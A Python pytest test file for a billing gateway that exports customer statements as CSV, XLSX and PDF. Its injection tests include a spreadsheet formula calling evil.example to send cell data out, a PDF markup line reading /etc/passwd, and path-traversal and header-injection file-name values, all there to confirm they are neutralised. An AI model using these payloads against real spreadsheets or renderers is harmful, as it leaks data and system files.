"""Statements as files: the numbers are those that were computed, and no text is more than a text."""

import subprocess
import sys
import time
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.errors import Unavailable
from gateway.integrations import statement_document as documents
from gateway.integrations.statement_csv import statement_csv
from gateway.integrations.statement_document import MAX_PDF_LINES, RenderingFailed, TooManyLines, statement_document
from gateway.integrations.statement_pdf import breakable, statement_pdf
from gateway.integrations.statement_sheet import SheetAge, SheetLine, StatementFormat, StatementSheet
from gateway.integrations.statement_xlsx import statement_xlsx
from tests.statement_files import after, as_written, lines_of_pdf, pages_of_pdf, table_of_csv, table_of_xlsx

LINE = SheetLine(
    day=date(2026, 1, 9),
    kind="Invoice",
    number="I-10001",
    description="Invoice I-10001, due on Feb 8, 2026",
    debit=Decimal("1120.50"),
    credit=None,
    balance=Decimal("1000.00"),
)


def a_sheet(**changes: Any) -> StatementSheet:
    """Return a statement of a quarter."""
    facts: dict[str, Any] = {
        "company": "Lone Star Plumbing",
        "company_email": "office@lonestar.example",
        "is_letter": True,
        "customer": "Ada Kent",
        "customer_number": "C-10001",
        "address": ("12 Oak Lane, Unit 4", "Austin, TX 78701"),
        "currency": "USD",
        "locale": "en_US",
        "time_zone": "America/Chicago",
        "from_day": date(2026, 1, 1),
        "to_day": date(2026, 3, 31),
        "opening": Decimal("-120.50"),
        "debits": Decimal("1120.50"),
        "credits": Decimal("0.00"),
        "closing": Decimal("1000.00"),
        "lines": (LINE,),
        "ages": (SheetAge("Not past due", Decimal("0.00")), SheetAge("1 to 30 days", Decimal("1005.00"))),
        "total_due": Decimal("1005.00"),
        "unapplied_credit": Decimal("5.00"),
    }
    return StatementSheet(**{**facts, **changes})


cents = st.integers(-(10**12), 10**12).map(lambda number: Decimal(number).scaleb(-2))
# What the gateway stores: no control characters, no halves of surrogate pairs.
texts = st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=40)
lines = st.builds(
    SheetLine,
    day=st.dates(date(1970, 1, 1), date(2200, 12, 31)),
    kind=st.sampled_from(["Invoice", "Payment", "Credit"]),
    number=st.none() | texts,
    description=texts,
    debit=st.none() | cents,
    credit=st.none() | cents,
    balance=cents,
)
sheets = st.builds(
    a_sheet,
    company=texts,
    customer=texts,
    customer_number=texts,
    address=st.lists(texts, max_size=3).map(tuple),
    opening=cents,
    closing=cents,
    total_due=cents,
    lines=st.lists(lines, max_size=6).map(tuple),
)


@given(sheets)
@settings(max_examples=60)
def test_csv_and_xlsx_have_the_same_rows_whatever_the_texts_and_numbers(sheet: StatementSheet) -> None:
    """Days, amounts to the cent and texts; a text that a spreadsheet would run is quoted in CSV and a text in XLSX."""
    plain = [[cell.removeprefix("'") for cell in row] for row in table_of_csv(statement_csv(sheet))]
    book = [[cell.removeprefix("'") for cell in row] for row in as_written(table_of_xlsx(statement_xlsx(sheet)))]
    for row, same in zip(plain, book, strict=False):
        assert row[: len(same)] == same
        assert not any(row[len(same) :])


@given(sheets)
@example(a_sheet(customer="0" * 30, total_due=Decimal("0.01")))
@settings(max_examples=8)
def test_a_pdf_shows_every_amount_whatever_the_texts(sheet: StatementSheet) -> None:
    """No text is markup, code or a reason to fail."""
    # A font of which a long name's digits, each with its invisible place to break, are a part gives such to all digits.
    shown = "\n".join(pages_of_pdf(statement_pdf(sheet))).replace("\u200b", "")
    for amount in (sheet.opening, sheet.closing, sheet.total_due, *(line.balance for line in sheet.lines)):
        assert f"{amount:,.2f}" in shown


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_is_run_by_a_spreadsheet(start: str) -> None:
    """Also in a program that does not ask before it runs what a cell says."""
    evil = f'{start}HYPERLINK("http://evil.example?"&A1)'
    sheet = a_sheet(customer=evil, lines=(SheetLine(**{**fields(LINE), "number": evil, "description": evil}),))
    for row in table_of_csv(statement_csv(sheet)):
        assert not any(cell.startswith(start) for cell in row if cell != "-120.50")
    assert after(as_written(table_of_xlsx(statement_xlsx(sheet))), "Customer")[1].strip().startswith(start.strip())


@pytest.mark.parametrize(
    "text",
    [
        "#let x = 1",
        "*Ada* _Kent_ `#`",
        '#read("/etc/passwd")',
        "$ x $ \\ <ref> @ref",
        "= Heading",
        "// comment",
        "#sys.inputs.sheet",
        '"quotes" \\u{41}',
    ],
)
def test_no_text_is_markup_or_code_in_a_pdf(text: str) -> None:
    """It is shown as it was written."""
    line = SheetLine(**{**fields(LINE), "description": text})
    shown = lines_of_pdf(statement_pdf(a_sheet(customer=text, lines=(line,))))
    assert text in shown
    assert any(text in row and "1,120.50" in row for row in shown)


@pytest.mark.parametrize("name", ["Ελένη Παπαδοπούλου", "Дмитрий Щукин", "Łódź Ğüneş Ñandú", "Đặng Thị Ái", "אביגיל"])
def test_names_of_many_alphabets_are_letters_in_a_pdf(name: str) -> None:
    """Which can be selected and searched for; letters of the fonts' own, on any machine."""
    shown = " ".join(lines_of_pdf(statement_pdf(a_sheet(customer=name))))
    assert name in shown or name[::-1] in shown


@pytest.mark.parametrize("name", ["山田太郎", "محمد", "👩‍🔧", "\u200b", "x" * 300])
def test_what_no_font_has_fails_nothing(name: str) -> None:
    """The numbers are what counts."""
    line = SheetLine(**{**fields(LINE), "description": name})
    assert "1,005.00" in " ".join(lines_of_pdf(statement_pdf(a_sheet(customer=name, lines=(line,)))))


def test_a_long_word_may_be_broken_anywhere() -> None:
    """Else it would run into the next column; short words stay whole."""
    assert breakable("Credit: " + "x" * 30) == "Credit: " + "\u200b".join("x" * 30)
    assert breakable("Credit: late") == "Credit: late"


@pytest.mark.parametrize(
    ("currency", "amount", "shown", "plain"),
    [("USD", "1234.50", "1,234.50", "1234.50"), ("JPY", "1234", "1,234", "1234"), ("BHD", "1.234", "1.234", "1.234")],
)
def test_amounts_have_the_digits_of_their_currency(currency: str, amount: str, shown: str, plain: str) -> None:
    """No more and no fewer."""
    sheet = a_sheet(currency=currency, closing=Decimal(amount), total_due=Decimal(amount))
    assert f"Total due {currency} {shown}" in lines_of_pdf(statement_pdf(sheet))
    assert after(table_of_csv(statement_csv(sheet)), "Total due")[1] == plain
    assert after([[str(cell) for cell in row] for row in table_of_xlsx(statement_xlsx(sheet))], "Total due")[1] in (
        plain, plain.rstrip("0"),
    )  # fmt: skip


def test_an_amount_that_no_double_holds_is_a_text_in_a_workbook() -> None:
    """Rounded, it would be wrong by cents."""
    sheet = a_sheet(total_due=Decimal("12345678901234567.89"))
    assert after(table_of_xlsx(statement_xlsx(sheet)), "Total due")[1] == "12345678901234567.89"


def test_days_and_amounts_of_a_workbook_are_dates_and_numbers() -> None:
    """So that they can be sorted and added up."""
    table = table_of_xlsx(statement_xlsx(a_sheet()))
    row = next(row for row in table if row[1] == "Invoice")
    assert row == [date(2026, 1, 9), "Invoice", "I-10001", LINE.description, 1120.5, None, 1000]


@pytest.mark.parametrize("form", list(StatementFormat))
def test_a_file_of_every_format_is_made_apart_from_the_gateway(form: StatementFormat) -> None:
    """By another process where the libraries are large; what comes back is the same."""
    here = {
        StatementFormat.CSV: statement_csv, StatementFormat.XLSX: statement_xlsx, StatementFormat.PDF: statement_pdf
    }[form](a_sheet())  # fmt: skip
    made = statement_document(a_sheet(), form)
    if form is StatementFormat.PDF:
        assert lines_of_pdf(made) == lines_of_pdf(here)
    elif form is StatementFormat.XLSX:
        assert table_of_xlsx(made) == table_of_xlsx(here)
    else:
        assert made == here


def test_a_served_process_loads_no_library_that_makes_files() -> None:
    """It would grow by a fifth."""
    loaded = "import gateway.app.application, gateway.operations.statement.send, sys; print(*sys.modules)"
    modules = subprocess.run([sys.executable, "-c", loaded], capture_output=True, text=True, check=True).stdout.split()
    assert "gateway.integrations.statement_document" in modules
    assert not {"typst", "xlsxwriter"} & set(modules)


def test_a_statement_of_many_pages_numbers_them_and_repeats_its_head() -> None:
    """The last page has the total."""
    pages = pages_of_pdf(statement_pdf(a_sheet(lines=(LINE,) * 150)))
    assert len(pages) > 3
    for number, page in enumerate(pages, 1):
        assert f"page {number} of {len(pages)}" in page
    assert all("Description" in page for page in pages[:-1])
    assert "Total due" in pages[-1]


def test_a_statement_that_is_too_long_for_a_pdf_says_what_to_do() -> None:
    """Spreadsheets take it."""
    sheet = a_sheet(lines=(LINE,) * (MAX_PDF_LINES + 1))
    with pytest.raises(TooManyLines, match="CSV or XLSX"):
        statement_document(sheet, StatementFormat.PDF)
    assert len(table_of_csv(statement_document(sheet, StatementFormat.CSV))) > MAX_PDF_LINES


def test_a_renderer_that_fails_or_hangs_is_not_waited_for(monkeypatch: pytest.MonkeyPatch) -> None:
    """One is a bug of ours, the other a machine under load."""
    monkeypatch.setattr(documents, "_RENDERERS", {StatementFormat.PDF: "gateway.no_such_module"})
    with pytest.raises(RenderingFailed, match="no_such_module"):
        statement_document(a_sheet(), StatementFormat.PDF)
    monkeypatch.setattr(documents, "SECONDS", 0.0)
    begun = time.monotonic()
    with pytest.raises(Unavailable, match="Try again"):
        statement_document(a_sheet(), StatementFormat.PDF)
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize("number", ["C-10001", "../../etc", 'C"; x', "C\r\nBcc: x"])
def test_a_file_name_is_safe_whatever_the_customers_number_is(number: str) -> None:
    """Letters, digits, hyphens and the ending."""
    name = a_sheet(customer_number=number).filename(StatementFormat.PDF)
    assert name.startswith("statement-")
    assert name.endswith("-2026-01-01-2026-03-31.pdf")
    assert name.replace("-", "").replace(".", "").isalnum()


def fields(line: SheetLine) -> dict[str, Any]:
    """Return the fields of a line."""
    return {name: getattr(line, name) for name in line.__struct_fields__}
